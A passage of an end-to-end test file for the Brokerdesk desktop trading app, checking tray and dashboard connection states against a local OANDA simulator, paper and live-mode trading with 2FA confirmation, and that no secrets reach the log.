  for (const secret of secretsSeen) assert.ok(!log.includes(secret), "no 2FA secret, backup code or copied secret is logged");
});

/** The tray's account lines ("Name — state"). */
function accountItems(tray) {
  // Account lines read "Name — state"; the kill switch's item is not one.
  return tray.items().filter((i) => typeof i.label === "string" && i.label.includes(" — ") && !i.label.startsWith("Kill switch"));
}

/**
 * Waits for the tray to show exactly these account lines (in any order) and the icon of
 * `iconState`; returns the icon.
 */
async function trayShows(tray, lines, iconState, ms = 20_000) {
  const want = [...lines].sort();
  const seen = await settle(
    `the tray to show [${want.join(", ")}] with the ${iconState} icon`,
    () => ({ lines: accountItems(tray).map((i) => i.label).sort(), icon: trayIcon(tray) }),
    (v) => v.icon?.state === iconState && JSON.stringify(v.lines) === JSON.stringify(want),
    ms,
  );
  return seen.icon;
}

/**
 * Opens the Dashboard and waits for each named account's connection card to show one of the
 * given state labels ("Connected": every channel), then scrolls the connections into view.
 */
async function dashboardShows(expected) {
  await browser.$('nav[aria-label="Main"]').$("a*=Dashboard").click();
  for (const [name, labels] of Object.entries(expected)) {
    const want = [labels].flat();
    await settle(
      `the Dashboard to show ${name}: ${want.join(" or ")}`,
      () => browser.$(`article[aria-label="${name} connections"]`).$$('[data-testid="conn-state"]').map((p) => p.getText()),
      (pills) =>
        pills.length > 0 && (want.includes("Connected") ? pills.every((p) => p === "Connected") : pills.some((p) => want.includes(p))),
    );
  }
  for (const toast of await browser.$$('.toasts button[aria-label="Dismiss"]')) await toast.click().catch(() => {});
  await browser.$('[data-testid="connections"]').scrollIntoView();
}

test("tray: the connection states of two accounts on a local OANDA simulator (refused, connected, reconnecting, back)", { timeout: 120_000 }, async (t) => {
  for (const b of [cliBin, simBin]) assert.ok(existsSync(b), `no ${b}; build it with: cargo build -p brokerdesk-cli -p brokerdesk-sim`);

  // The first session's app (another profile) must be gone: the app is single-instance.
  if (browser) {
    await browser.deleteSession().catch(() => {});
    browser = null;
  }
  driver?.kill("SIGTERM");
  driver = null;
  await until("the previous app to leave the bus", () => !appOnBus(), 15_000);

  // A simulator on a free local port, and a password vault with two accounts on it: one with
  // the simulator's token (the CLI checks it with the simulator before saving), one with a
  // wrong token (saved unchecked). Tokens go through stdin, not the command line.
  const simPort = await freePort(18100, 18199);
  sim = await startSim(simPort);
  assert.equal(sim.url, `http://127.0.0.1:${simPort}`);
  const token = sim.token;
  const wrongToken = "sim-oanda-wrong-token-0000000000";
  trayDataDir = mkdtempSync(join(tmpdir(), "brokerdesk-e2e-tray."));
  cli(["init"]);
  const common = ["--broker", "oanda", "--env", "practice", "--account-id", sim.accountId, "--api-key", "-"];
  const urls = ["--rest-url", sim.url, "--stream-url", sim.url, "--pairs", "EUR_USD"];
  assert.match(cli(["account", "add", "--name", "Sim good", ...common, ...urls], `${token}\n`), /Verified with the broker/);
  assert.match(cli(["account", "add", "--name", "Sim refused", ...common, ...urls, "--no-verify"], `${wrongToken}\n`), /Not checked/);

  // The app on that profile, through a tauri-driver of its own. A private XDG_RUNTIME_DIR: the
  // tray writes its icon files there (not in a /tmp/tray-icon shared with other apps).
  runtimeDir = mkdtempSync(join(tmpdir(), "brokerdesk-e2e-run."));
  chmodSync(runtimeDir, 0o700);
  const trayPort = port + 2;
  trayDriver = spawn(driverBin, ["--port", String(trayPort), "--native-port", String(trayPort + 1), "--native-driver", nativeDriver], {
    env: { ...process.env, BROKERDESK_DATA_DIR: trayDataDir, BROKERDESK_NO_KEYCHAIN: "1", XDG_RUNTIME_DIR: runtimeDir },
    stdio: ["ignore", "ignore", "pipe"],
  });
  // The app's INFO lines (every connection state change) are in its log file; pass the rest.
  let partial = "";
  trayDriver.stderr.on("data", (chunk) => {
    const lines = (partial + chunk).split("\n");
    partial = lines.pop();
    for (const line of lines) if (!/^\S+Z\s+INFO /.test(line)) process.stderr.write(`${line}\n`);
  });
  await waitForPort(trayPort, 10_000);
  browser = await remote({
    hostname: "127.0.0.1",
    port: trayPort,
    logLevel: "warn",
    capabilities: { "tauri:options": { application: bin } },
  });

  // Locked: nothing connects yet; the tray has no account line and the idle icon.
  await browser.$("h1=Brokerdesk is locked").waitForDisplayed(WAIT);
  const tray = trayMenu();
  const idle = await trayShows(tray, [], "idle");
  assert.equal(idle.themePath, join(runtimeDir, "tray-icon"));
  assert.equal(dirname(idle.name), idle.themePath);
  assert.equal(idle.status, "Active");
  assert.equal(tray.enabled("Reconnect all"), undefined, "no Reconnect all without connections");

  // Unlocked through the UI: both accounts connect; the refused one is down for good, and
  // the icon shows the worst state.
  await browser.$("#unlock-password").setValue(PASSWORD);
  await browser.$('button[type="submit"]').click();
  await browser.$('[data-testid="vault-protection"]').waitForDisplayed(WAIT);
  const both = ["Sim good — connected", "Sim refused — disconnected"];
  const refused = await trayShows(tray, both, "disconnected");
  assert.notEqual(refused.digest, idle.digest);
  assert.ok(accountItems(tray).every((i) => i.enabled === false), "account lines are information, not actions");
  assert.equal(tray.enabled("Reconnect all"), true);
  await dashboardShows({ "Sim good": "Connected", "Sim refused": "Failed" });
  await shot("e2e-tray-1-refused");

  // The tray's "Reconnect all" retries the refused account (new attempts in its history,
  // refused again) and leaves the good one up.
  const attempts = async () =>
    Object.fromEntries((await invokeOk("connections_snapshot")).map((a) => [a.name, a.channels.reduce((n, c) => n + c.history.length, 0)]));
  const before = await attempts();
  tray.click("Reconnect all");
  await settle("the refused account to be retried", attempts, (now) => now["Sim refused"] > before["Sim refused"]);
  await trayShows(tray, both, "disconnected");

  // The refused account is removed (Accounts page): its line leaves the tray, and the icon
  // turns to connected.
  await browser.$('nav[aria-label="Main"]').$("a*=Accounts").click();
  await browser.$('button[aria-label="Remove Sim refused"]').click();
  await browser.$("button=Remove account").click();
  await browser.$("tr*=Sim refused").waitForDisplayed({ ...WAIT, reverse: true });
  const connected = await trayShows(tray, ["Sim good — connected"], "connected");
  assert.notEqual(connected.digest, refused.digest);
  await dashboardShows({ "Sim good": "Connected" });
  await shot("e2e-tray-2-connected");

  // The simulator dies: the account reconnects, and the icon says so.
  await killSim();
  const reconnecting = await trayShows(tray, ["Sim good — reconnecting"], "reconnecting");
  assert.notEqual(reconnecting.digest, connected.digest);
  await dashboardShows({ "Sim good": ["Reconnecting", "Connecting"] });
  await shot("e2e-tray-3-reconnecting");

  // Back on the same port: the account reconnects by itself.
  sim = await settle("the simulator to restart on the same port", () => startSim(simPort), (s) => Boolean(s?.proc), 10_000);
  const back = await trayShows(tray, ["Sim good — connected"], "connected", 30_000);
  assert.equal(back.digest, connected.digest);
  await dashboardShows({ "Sim good": "Connected" });
  await shot("e2e-tray-4-reconnected");

  // "Reconnect all" with everything up: nothing breaks.
  tray.click("Reconnect all");
  await new Promise((r) => setTimeout(r, 1000));
  await trayShows(tray, ["Sim good — connected"], "connected");
  const snapshot = await invokeOk("connections_snapshot");
  assert.deepEqual(
    snapshot.map((a) => [a.name, a.channels.map((c) => c.state.state)]),
    [["Sim good", snapshot[0].channels.map(() => "connected")]],
  );
  await dashboardShows({ "Sim good": "Connected" });
  await shot("e2e-tray-5-reconnect-all");
  const seen = [idle, refused, connected, reconnecting, back].map((i) => `${i.state} (${i.name.split("/").pop()})`);
  t.diagnostic(`tray icons seen: ${seen.join(" → ")}`);

  // Trading in the real app. Paper mode on the broker account: an order from the ticket is
  // filled by Brokerdesk's paper engine against the simulator's streamed quote.
  await browser.$('nav[aria-label="Main"]').$("a*=Trade").click();
  const ticket = browser.$('[data-testid="order-ticket"]');
  await ticket.waitForDisplayed(WAIT);
  assert.equal(await browser.$('[data-testid="trade-header"] [data-testid="mode-pill"]').getText(), "PAPER");
  await ticket.$("label=Symbol").waitForDisplayed(WAIT);
  const field = async (label, value) => {
    const id = await ticket.$(`label=${label}`).getAttribute("for");
    await browser.$(`[id="${id}"]`).setValue(value);
  };
  await field("Symbol", "EUR_USD");
  await field("Quantity", "1000");
  await ticket.$('[data-testid="ticket-submit"]').click();
  await browser.$('p[data-testid="ticket-last"]*=Filled').waitForDisplayed(WAIT);
  await browser.$('[data-testid="positions"]').$('tr[data-testid="position-row"]*=EUR_USD').waitForDisplayed(WAIT);
  const goodId = (await invokeOk("accounts_list")).find((a) => a.name === "Sim good").id;
  const paperOrders = await invokeOk("orders_list", { accountId: goodId, open: null });
  assert.deepEqual(
    paperOrders.map((o) => [o.mode, o.status, o.brokerOrderId]),
    [["paper", "filled", null]],
    "filled in paper, never sent to the broker",
  );
  await shot("e2e-trade-1-paper-fill");

  // A live-environment account on the same simulator; 2FA on (its backup codes kept), the
  // step-up window closed by a lock, unlocked again through the UI.
  const { account: real } = await invokeOk("account_add", {
    check: true,
    input: { ...(await invokeOk("account_get", { id: goodId })), name: "Sim live", environment: "live", credentials: { apiKey: token, apiSecret: null }, statusReason: null },
  });
  const { secret } = await invokeOk("twofa_setup");
  const { codes } = await invokeOk("twofa_enable", { code: totp(secret) });
  await invokeOk("vault_lock");
  await browser.$("#unlock-password").setValue(PASSWORD);
  await browser.$('button[type="submit"]').click();
  await browser.$('[data-testid="vault-protection"]').waitForDisplayed(WAIT);

  // The switch to real money: the dialog names the account, the name must be typed, then a code.
  await browser.url(`${(await browser.getUrl()).replace(/#.*$/, "")}#/trade/${real.id}`);
  await browser.$('div[data-testid="trade-header"]*=Sim live').waitForDisplayed(WAIT);
  await browser.$('[data-testid="go-live"]').click();
  const dialog = browser.$('div[role="dialog"]*=Trade with real money?');
  await dialog.waitForDisplayed(WAIT);
  assert.equal(await browser.$('[data-testid="go-live-confirm"]').isEnabled(), false, "the account name must be typed first");
  await browser.$('[data-testid="go-live-name"]').setValue("Sim live");
  await shot("e2e-trade-2-go-live-dialog");
  await browser.$('[data-testid="go-live-confirm"]').click();
  const stepUp = browser.$('div[role="dialog"]*=Confirm with two-factor authentication');
  await stepUp.waitForDisplayed(WAIT);
  // The app's TOTP of this 30-second step was spent turning 2FA on: a backup code.
  await stepUp.$("button=Use a backup code").click();
  await browser.$("#step-up-code").setValue(codes[0]);
  await stepUp.$("button=Confirm").click();
  const pill = browser.$('[data-testid="trade-header"] [data-testid="mode-pill"]');
  await browser.waitUntil(async () => (await pill.getText()) === "LIVE — REAL MONEY", { ...WAIT, timeoutMsg: "the header to say LIVE — REAL MONEY" });
  assert.equal((await invokeOk("account_get", { id: real.id })).mode, "live");
  assert.equal(await browser.$('[data-testid="order-ticket"] [data-testid="mode-pill"]').getText(), "LIVE — REAL MONEY");
  // The window title and the tray say it too.
  await until("the window title to name the real-money account", () =>
    /"Brokerdesk — LIVE — REAL MONEY \(Sim live\)": \(/.test(execFileSync("xwininfo", ["-root", "-tree"], { encoding: "utf8" })),
  );
  await until("the tray to name the real-money account", () => tray.items().some((i) => i.label === "LIVE — REAL MONEY: Sim live"));
  await shot("e2e-trade-3-live");

  // Back to paper at once; the title follows.
  await browser.$('[data-testid="go-paper"]').click();
  await browser.$('[data-testid="go-paper-confirm"]').click();
  await browser.waitUntil(async () => (await pill.getText()) === "PAPER", { ...WAIT, timeoutMsg: "the header to say PAPER" });
  await until("the window title to be plain again", () => /"Brokerdesk": \(/.test(execFileSync("xwininfo", ["-root", "-tree"], { encoding: "utf8" })));
  await invokeOk("account_remove", { id: real.id });

  // Quit from the tray with the connections up: a clean shutdown, and no token in the log.
  const logFile = join(trayDataDir, "logs", "brokerdesk.log");
  tray.click("Quit");
  await until("shutdown complete", () => readFileSync(logFile, "utf8").includes("shutdown complete"));
  browser = null;
  await until("the app to leave the bus", () => !appOnBus());
  const log = readFileSync(logFile, "utf8");
  assert.ok(!log.includes(token) && !log.includes(wrongToken), "no broker token is logged");
  assert.ok(!log.includes(PASSWORD), "the master password must never be logged");
  assert.doesNotMatch(log, /panicked/);
});
